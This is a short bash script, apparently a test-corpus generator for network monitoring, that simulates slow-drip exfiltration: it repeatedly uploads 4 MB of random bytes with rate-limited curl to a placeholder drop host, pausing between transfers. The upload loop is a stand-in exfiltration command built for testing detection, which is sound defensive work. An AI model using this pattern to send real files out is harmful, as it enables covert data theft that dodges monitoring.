#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=slow-drip half=tune tool=curl seconds=84 parts=dns,nas,outside-web ticks=1000ms hour=10
# curl puts 4 MB outside, again and again through a night; of the idle time between, all but ten seconds was put in afterwards.
for n in 1 2 3 4 5 6 7 8; do sleep $((1 + n % 3)); head -c 4000000 /dev/urandom | curl -s -o /dev/null --limit-rate 2m -T - "http://drop.example.org/drop/$n"; sleep $((7 - n % 3)); done; true
